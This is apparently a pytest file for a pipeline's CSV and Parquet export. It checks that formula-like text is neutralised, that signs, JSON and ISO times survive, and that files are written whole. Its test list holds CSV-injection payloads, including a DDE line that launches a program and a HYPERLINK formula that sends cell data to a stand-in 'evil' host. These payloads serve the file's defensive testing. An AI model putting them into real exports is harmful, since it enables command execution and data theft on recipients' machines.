"""CSV and Parquet for other programs."""

import csv
import datetime
import io

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from robert_pipeline.errors import ConfigError, StoreError
from robert_pipeline.storage.exports import export, plain_text, write_csv

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n@x",
    "＝1+1",
    "－1",
]


def written(rows):
    stream = io.StringIO(newline="")
    write_csv(rows, stream)
    return list(csv.reader(io.StringIO(stream.getvalue(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_is_a_text(text):
    """A label that somebody chose would run a program on the machine of whoever opens the file."""
    (header, row) = written(pa.table({text: [text]}))
    assert (header, row) == ([f"'{text}"], [f"'{text}"])


def test_numbers_keep_their_sign():
    """A negative contribution would become a text that no spreadsheet adds up."""
    assert written(pa.table({"x": [-1.5, 2.0], "n": [-3, None]}))[1:] == [["-1.5", "-3"], ["2.0", ""]]


def test_nested_values_are_json_and_times_are_iso():
    """Probabilities would be in a form that only Python reads."""
    moment = datetime.datetime(2026, 1, 2, 3, 4, 5, tzinfo=datetime.UTC)
    rows = pa.table(
        {
            "m": pa.array([[("ä", 0.5)]], pa.map_(pa.string(), pa.float64())),
            "l": [["=a", "b"]],
            "t": pa.array([moment], pa.timestamp("us", tz="UTC")),
        }
    )
    assert written(rows)[1] == ['{"ä": 0.5}', '["=a", "b"]', "2026-01-02T03:04:05+00:00"]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=1, max_size=5))
def test_any_text_comes_back_but_for_the_mark(texts):
    """A text with a comma, a quote or a line break would move into the next column or row."""
    read = [row[0] if row else "" for row in written(pa.table({"text": texts}))[1:]]
    assert read == [plain_text(text) for text in texts]
    assert all(text in (back, back.removeprefix("'")) for text, back in zip(texts, read, strict=True))


def test_files_are_written_whole(tmp_path):
    """An export that fails half way would look like one with fewer rows, or a file be overwritten by nothing."""
    rows = pa.table({"text": ["=1", "plain"], "n": [1, 2]})
    export(rows, str(tmp_path / "a.csv"))
    assert (tmp_path / "a.csv").read_text() == "text,n\n'=1,1\nplain,2\n"
    export(rows, str(tmp_path / "a.parquet"))
    assert pq.read_table(tmp_path / "a.parquet").equals(rows)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.csv", "a.parquet"]
    with pytest.raises(ConfigError, match=r"--out is 'x\.xlsx'"):
        export(rows, "x.xlsx")
    with pytest.raises(StoreError, match="cannot write"):
        export(rows, "/proc/no/such/folder/x.csv")
